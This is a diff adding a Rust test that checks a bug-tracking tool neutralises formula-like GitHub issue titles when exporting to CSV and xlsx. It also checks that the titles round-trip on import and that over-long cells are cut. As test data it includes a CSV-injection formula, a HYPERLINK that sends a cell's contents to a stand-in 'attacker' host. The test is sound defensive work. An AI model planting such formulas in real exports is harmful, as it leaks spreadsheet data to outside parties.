@@ -327,3 +327,83 @@ fn what_a_sync_changes_in_a_bugs_text_is_history_with_the_sync_as_actor() {
         assert!(shown.contains(change), "{change} not in:\n{shown}");
     }
 }
+
+#[test]
+fn hostile_titles_from_github_reach_a_spreadsheet_as_text_and_round_trip() {
+    let db = demo("hostile_cells");
+    let dir = tempfile::tempdir().unwrap();
+    let titles =
+        ["=HYPERLINK(\"https://attacker/?\"&A2,\"click\")", "+1 on checkout", "-2 refunds", "@channel login"];
+    let mut issues: Vec<Value> = titles
+        .iter()
+        .enumerate()
+        .map(|(i, title)| {
+            let mut issue = issue(i as u32 + 1, "open", None, &["bug"], None);
+            issue["title"] = json!(title);
+            issue
+        })
+        .collect();
+    let mut long = issue(9, "open", None, &["bug"], None);
+    long["body"] = json!("y".repeat(40_000));
+    issues.push(long);
+    assert_eq!(sync(&db, dir.path(), "acme/api", &issues), (5, 5, 0, 0));
+
+    // CSV: each formula written as text, with a leading '
+    let listed = db.run(&["bugs", "--all", "--wide", "-f", "csv"]);
+    for title in titles {
+        let written = format!(",\"'{}\",", title.replace('"', "\"\""));
+        let plain = format!(",'{title},");
+        assert!(
+            listed.contains(&written) || listed.contains(&plain),
+            "{title} not neutralised in:\n{listed}"
+        );
+    }
+    assert!(!listed.contains(",=HYPERLINK") && !listed.contains(",\"=HYPERLINK"), "{listed}");
+    // --csv-raw writes them as they are
+    let raw = db.run(&["bugs", "--all", "--wide", "-f", "csv", "--csv-raw"]);
+    assert!(raw.contains(",\"=HYPERLINK(\"\"https://attacker/?\"\"&A2,\"\"click\"\")\","), "{raw}");
+    assert!(raw.contains(",+1 on checkout,"), "{raw}");
+    // and ctodb's own CSV imported back changes nothing
+    let file = dir.path().join("bugs.csv");
+    std::fs::write(&file, &listed).unwrap();
+    let out = db.ctodb(&["import", "csv", file.to_str().unwrap(), "--kind", "bugs", "-f", "csv"]);
+    let counts: Vec<String> =
+        out.ok().lines().nth(1).unwrap().split(',').skip(4).map(str::to_string).collect();
+    assert_eq!(counts, ["0", "0", db.count("SELECT count(*) FROM bugs").to_string().as_str(), "0"]);
+    for title in titles {
+        assert_eq!(
+            db.count(&format!("SELECT count(*) FROM bugs WHERE title = '{}'", title.replace('\'', "''"))),
+            1
+        );
+    }
+
+    // a workbook: the 40,000-character description is cut with a marker and one warning
+    let book = dir.path().join("bugs.xlsx");
+    let out = db.ctodb(&["bugs", "--all", "--wide", "-o", book.to_str().unwrap()]);
+    assert_eq!(out.code(), 0, "{}", out.stderr_text());
+    assert!(
+        out.stderr_text().contains(
+            "warning: 1 cell longer than a spreadsheet cell holds (32767 characters) was cut, marked \
+             \"[…cut: N characters in all]\"; -f csv or -f json keeps the text whole"
+        ),
+        "{}",
+        out.stderr_text()
+    );
+    let read = crate::common::run_python_with(&[
+        "-c",
+        "import sys, openpyxl\n\
+         sheet = openpyxl.load_workbook(sys.argv[1]).active\n\
+         header = [c.value for c in sheet[1]]\n\
+         col = header.index('description')\n\
+         for row in sheet.iter_rows(min_row=2, values_only=True):\n\
+         \x20   if row[col] and len(row[col]) > 30000: print(len(row[col]), row[col][-34:])\n\
+         titles = header.index('title')\n\
+         print(sorted(r[titles] for r in sheet.iter_rows(min_row=2, values_only=True) if r[titles][0] in '=+-@'))",
+        book.to_str().unwrap(),
+    ]);
+    assert_eq!(
+        read,
+        "32767 yy […cut: 40000 characters in all]\n\
+         ['+1 on checkout', '-2 refunds', '=HYPERLINK(\"https://attacker/?\"&A2,\"click\")', '@channel login']\n"
+    );
+}
